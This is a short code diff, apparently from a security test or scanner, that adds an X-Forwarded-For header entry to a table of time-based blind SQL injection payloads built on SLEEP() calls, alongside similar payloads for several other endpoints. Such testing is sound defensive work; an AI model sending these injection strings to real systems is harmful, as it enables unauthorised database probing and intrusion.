@@ -56,6 +56,8 @@ TOLD = ("/berths/wish wish", "/stock/reserve amount", "/catalogue/direction dire
 SLEEPS: dict[str, tuple[str, ...]] = {
     "/news/sign-up address": ("x' + SLEEP({}) + '", "x'); SELECT SLEEP({}); --", "'||(SELECT SLEEP({}))||'"),
     "/stock/watch article": ("4 AND SLEEP({}) = 0", "(SELECT SLEEP({}))", "CASE WHEN SLEEP({}) THEN 1 ELSE 2 END"),
+    "/tide/table X-Forwarded-For": (
+        "x' + SLEEP({}) + '", "x', SLEEP({})); --", "'||(SELECT SLEEP({}))||'"),
     "/api/known mail": ('x" + SLEEP({}) + "', '" || (SELECT SLEEP({})) || "', 'x" = SLEEP({}) --'),
 }  # fmt: skip
 FLAWS = {place: flaw for place, flaw in flaws_of(CHECK).items() if place not in SLEEPS}
